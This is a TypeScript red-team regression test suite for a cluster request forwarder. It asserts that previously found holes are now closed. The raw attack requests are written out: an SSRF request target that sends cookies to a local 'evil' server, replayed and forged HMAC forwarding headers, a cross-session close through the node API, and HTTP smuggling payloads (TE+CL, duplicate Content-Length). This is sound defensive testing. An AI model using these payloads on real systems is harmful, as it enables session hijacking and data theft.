/**
 * Red team, cluster mode (issue 14): a hostile client against the forwarder and the private
 * listener, on real nodes (CLI processes) sharing a real Redis. Holes found were marked todo
 * until closed (hole N, fixed: the test shows it closed); what held is a normal test.
 */
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { describe, test } from 'node:test';
import { request } from 'undici';
import { FORWARD_HEADER, ForwardAuth } from '../src/cluster/forward-auth.ts';
import { Client } from './helpers.ts';
import { rawRequest } from './raw-http.ts';
import { CLUSTER_SECRET, clusterFor } from './cluster/harness.ts';
import type { SignedTarget } from '../src/cluster/forward-auth.ts';

const portOf = (url: string) => Number(new URL(url).port);

/** A header signed with the cluster secret as a node would (src/cluster/forward-auth.ts), but with a chosen time. */
function signAt(t: number, fields: { ip: string; tls: boolean; hops: number }, target: SignedTarget): string {
  const { purpose, method, path, to, cookie } = target;
  const payload = Buffer.from(JSON.stringify({ ...fields, t, to })).toString('base64url');
  const mac = createHmac('sha256', CLUSTER_SECRET).update(`v3.${payload}\n${purpose}\n${method}\n${path}\n${cookie}`).digest('base64url');
  return `v3.${payload}.${mac}`;
}

const forwardTo = (to: string, method: string, path: string, cookie: string): SignedTarget => ({ purpose: 'forward', method, path, cookie, to });

describe('red team: cluster forwarding trust boundary (redis)', { timeout: 120_000 }, () => {
  const ready = clusterFor('redis', ['a', 'b'], { leaseTimeout: '10s', forwardTimeout: '2s', threads: 1 });

  test(
    'hole 1, fixed (the test shows it closed): a client reaches the node-to-node API (/.resident-cluster/close) through the forwarder and closes another client’s live session',
    async (t) => {
      const c = ready(t);
      if (!c) return;
      const victim = c.client('a');
      await victim.get('/inc');
      await victim.get('/inc');
      const victimId = victim.cookie!;
      // The attacker has a session of its own on node a, and asks node b (which forwards to a).
      const attacker = c.client('a');
      await attacker.get('/inc');
      const viaB = c.client('b', attacker.cookie);
      const reply = await viaB.get(`/.resident-cluster/close?${new URLSearchParams({ id: victimId, by: 'attacker' })}`, { method: 'POST' });
      const after = await victim.get('/inc');
      assert.equal(after.status, 200, after.text);
      assert.deepEqual(
        { id: after.json().id, n: after.json().n, closeReply: reply.text.includes('"closed":true') },
        { id: victimId, n: 3, closeReply: false },
        `the victim's session must survive; the attacker's request was answered ${reply.status} ${reply.text}`,
      );
    },
  );

  test(
    'hole 2, fixed (the test shows it closed): a request target of the form //host:port/path makes the forwarder send the client’s cookie and a valid signed header to any host (SSRF)',
    async (t) => {
      const c = ready(t);
      if (!c) return;
      const seen: IncomingHttpHeaders[] = [];
      const evil = createServer((req, res) => {
        seen.push(req.headers);
        res.end('evil answer');
      });
      await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
      t.after(() => new Promise<void>((resolve) => evil.close(() => resolve())));
      const evilPort = (evil.address() as { port: number }).port;
      const owner = c.client('a');
      await owner.get('/inc');
      const reply = await rawRequest(
        portOf(c.node('b').url),
        `GET //127.0.0.1:${evilPort}/steal HTTP/1.1\r\nHost: example.com\r\nCookie: RSID=${owner.cookie}\r\nConnection: close\r\n\r\n`,
      );
      // The same with a backslash, which the URL parser reads as '/'.
      const backslash = await rawRequest(
        portOf(c.node('b').url),
        `GET /\\127.0.0.1:${evilPort}/steal2 HTTP/1.1\r\nHost: example.com\r\nCookie: RSID=${owner.cookie}\r\nConnection: close\r\n\r\n`,
      );
      t.diagnostic(`backslash form: ${backslash.status} ${backslash.body.slice(0, 40)}`);
      assert.equal(seen.length, 0, `the forwarder called a host the client named; it sent: ${JSON.stringify(seen[0])}; the client got ${reply.status} ${reply.body}`);
    },
  );

  test(
    'hole 3, fixed (the test shows it closed): a signed header is not bound to the cookie, the body, the Host or the node: one captured header opens any session (IP binding bypassed) for 5 minutes, on every node',
    async (t) => {
      const c = ready(t);
      if (!c) return;
      // The victim's session, bound to 127.0.0.1, on node a.
      const victim = new Client(c.node('a').url, { localAddress: '127.0.0.1' });
      await victim.get('/inc');
      // A header a node signed for some other client's GET /state, captured on the private
      // network 4 minutes ago, claiming the victim's address.
      const captured = signAt(Date.now() - 4 * 60_000, { ip: '127.0.0.1', tls: false, hops: 1 }, forwardTo(c.node('a').owner, 'GET', '/state', 'RSID=another-client'));
      const replayed = await request(`${c.node('a').privateUrl}/state`, { headers: { cookie: `RSID=${victim.cookie}`, [FORWARD_HEADER]: captured } });
      const text = await replayed.body.text();
      await victim.close();
      assert.notEqual(replayed.statusCode, 200, `a 4-minute-old header, replayed with another cookie, was accepted: ${text}`);
    },
  );

  test('held: stale (6 min), future (6 min), hops 0/-1/huge, duplicated, other-method, other-query and lowercase/uppercase-name headers on the private port', async (t) => {
    const c = ready(t);
    if (!c) return;
    const owner = c.client('a');
    await owner.get('/inc');
    const cookie = `RSID=${owner.cookie}`;
    const priv = c.node('a').privateUrl;
    const auth = new ForwardAuth(CLUSTER_SECRET);
    const a = c.node('a').owner;
    const good = auth.sign({ clientIp: '127.0.0.1', secure: false, hops: 1 }, forwardTo(a, 'GET', '/state', cookie));
    const cases: [string, string, Record<string, string | string[]>, number[]][] = [
      ['stale', '/state', { [FORWARD_HEADER]: signAt(Date.now() - 6 * 60_000, { ip: '127.0.0.1', tls: false, hops: 1 }, forwardTo(a, 'GET', '/state', cookie)) }, [403]],
      ['future', '/state', { [FORWARD_HEADER]: signAt(Date.now() + 6 * 60_000, { ip: '127.0.0.1', tls: false, hops: 1 }, forwardTo(a, 'GET', '/state', cookie)) }, [403]],
      ['other query', '/state?x=1', { [FORWARD_HEADER]: good }, [403]],
      ['duplicated', '/state', { [FORWARD_HEADER]: [good, good] }, [403]],
      ['upper-case name', '/state', { 'X-RESIDENT-FORWARD': good }, [200]],
      ['hops huge', '/inc', { [FORWARD_HEADER]: signAt(Date.now(), { ip: '127.0.0.1', tls: false, hops: 1e9 }, forwardTo(a, 'GET', '/inc', cookie)) }, [200]],
    ];
    for (const [name, path, headers, statuses] of cases) {
      const reply = await request(`${priv}${path}`, { headers: { cookie, ...headers } });
      const text = await reply.body.text();
      assert.ok(statuses.includes(reply.statusCode), `${name}: ${reply.statusCode} ${text}`);
    }
    // Another method on a signature for GET.
    const post = await request(`${priv}/state`, { method: 'POST', body: 'x', headers: { cookie, [FORWARD_HEADER]: good } });
    assert.equal(post.statusCode, 403);
    await post.body.text();
    // A session not held by b with hops 1e9 signed: never forwarded further (508), whatever the count.
    const huge = await request(`${c.node('b').privateUrl}/inc`, { headers: { cookie, [FORWARD_HEADER]: signAt(Date.now(), { ip: '127.0.0.1', tls: false, hops: -5 }, forwardTo(c.node('b').owner, 'GET', '/inc', cookie)) } });
    const hugeText = await huge.body.text();
    assert.equal(huge.statusCode, 403, `negative hops are refused: ${huge.statusCode} ${hugeText}`);
  });

  test('held: a client’s own x-resident-forward (any case, repeated) on the public port is stripped and never vouches for an address', async (t) => {
    const c = ready(t);
    if (!c) return;
    const owner = new Client(c.node('a').url, { localAddress: '127.0.0.1' });
    await owner.get('/inc');
    const forged = new ForwardAuth(CLUSTER_SECRET).sign({ clientIp: '10.9.9.9', secure: true, hops: 1 }, forwardTo(c.node('a').owner, 'GET', '/headers', `RSID=${owner.cookie}`));
    const reply = await rawRequest(
      portOf(c.node('b').url),
      `GET /headers HTTP/1.1\r\nHost: x\r\nCookie: RSID=${owner.cookie}\r\nX-Resident-Forward: ${forged}\r\nx-resident-forward: ${forged}\r\nConnection: close\r\n\r\n`,
      { localAddress: '127.0.0.1' },
    );
    await owner.close();
    assert.equal(reply.status, 200, reply.raw);
    const body = JSON.parse(reply.body) as { clientIp: string; headers: [string, string][]; url: string };
    assert.equal(body.clientIp, '127.0.0.1');
    assert.ok(body.url.startsWith('http://'), body.url);
    assert.ok(!body.headers.some(([name]) => name === FORWARD_HEADER), JSON.stringify(body.headers));
  });

  test('held: smuggling shapes through a non-owner: TE+CL, duplicate CL, chunked body, Expect: 100-continue, body over maxBodySize', async (t) => {
    const c = ready(t);
    if (!c) return;
    const owner = c.client('a');
    await owner.get('/inc');
    const port = portOf(c.node('b').url);
    const ck = `Cookie: RSID=${owner.cookie}\r\n`;
    const teCl = await rawRequest(port, `POST /echo HTTP/1.1\r\nHost: x\r\n${ck}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET /inc HTTP/1.1\r\nHost: x\r\n${ck}\r\n`);
    assert.ok(teCl.status === 400 || !/"n":\d+/.test(teCl.raw.slice(teCl.raw.indexOf('\r\n\r\n'))), `TE+CL: ${teCl.raw}`);
    const dupCl = await rawRequest(port, `POST /echo HTTP/1.1\r\nHost: x\r\n${ck}Content-Length: 3\r\nContent-Length: 30\r\n\r\nabc`);
    assert.equal(dupCl.status, 400, dupCl.raw);
    const chunked = await rawRequest(port, `POST /echo HTTP/1.1\r\nHost: x\r\n${ck}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n`);
    assert.equal(chunked.status, 200, chunked.raw);
    assert.deepEqual(JSON.parse(chunked.body), { method: 'POST', body: 'abcde' });
    const cont = await rawRequest(port, `POST /echo HTTP/1.1\r\nHost: x\r\n${ck}Content-Length: 2\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nhi`);
    assert.match(cont.raw, /200 OK[\s\S]*"body":"hi"/, cont.raw);
    const state = await owner.get('/state');
    assert.equal(state.json().n, 1, 'nothing smuggled ran /inc');
    // A Host with CRLF cannot be sent; a Host with a path is refused before forwarding.
    const badHost = await rawRequest(port, `GET /state HTTP/1.1\r\nHost: x/evil\r\n${ck}Connection: close\r\n\r\n`);
    assert.equal(badHost.status, 400, badHost.raw);
  });

  test('held: HEAD through a non-owner: the owner’s length, no body, and the connection stays in step (a GET after it on the same connection is answered)', async (t) => {
    const c = ready(t);
    if (!c) return;
    const owner = c.client('a');
    await owner.get('/inc');
    const ck = `Cookie: RSID=${owner.cookie}\r\n`;
    const reply = await rawRequest(portOf(c.node('b').url), `HEAD /state HTTP/1.1\r\nHost: x\r\n${ck}\r\nGET /inc HTTP/1.1\r\nHost: x\r\n${ck}Connection: close\r\n\r\n`);
    const answers = reply.raw.split(/(?=HTTP\/1\.1 )/);
    assert.equal(answers.length, 2, reply.raw);
    assert.match(answers[0]!, /^HTTP\/1\.1 200[\s\S]*content-length: \d+\r\n[\s\S]*\r\n\r\n$/i, answers[0]);
    assert.match(answers[1]!, /^HTTP\/1\.1 200[\s\S]*"n":2/, answers[1]);
  });

  test(
    'hole 7, fixed (the test shows it closed): a request whose headers fit the public port (16 KiB) but not once the forwarding header is added is refused by the owner (431) only when it goes through a non-owner',
    async (t) => {
      const c = ready(t);
      if (!c) return;
      const owner = c.client('a');
      await owner.get('/inc');
      // The longest filler the owner accepts directly (binary search), then the same through b.
      const status = async (node: string, size: number) => {
        const client = new Client(c.node(node).url);
        client.cookie = owner.cookie;
        try {
          return (await client.get('/state', { headers: { 'x-filler': 'x'.repeat(size) } })).status;
        } catch {
          return 0;
        } finally {
          await client.close();
        }
      };
      let low = 15_000;
      let high = 17_000;
      while (high - low > 1) {
        const mid = (low + high) >> 1;
        if ((await status('a', mid)) === 200) low = mid;
        else high = mid;
      }
      const forwarded = await status('b', low);
      assert.equal(forwarded, 200, `a filler of ${low} bytes: 200 direct, ${forwarded} through a non-owner`);
    },
  );
});
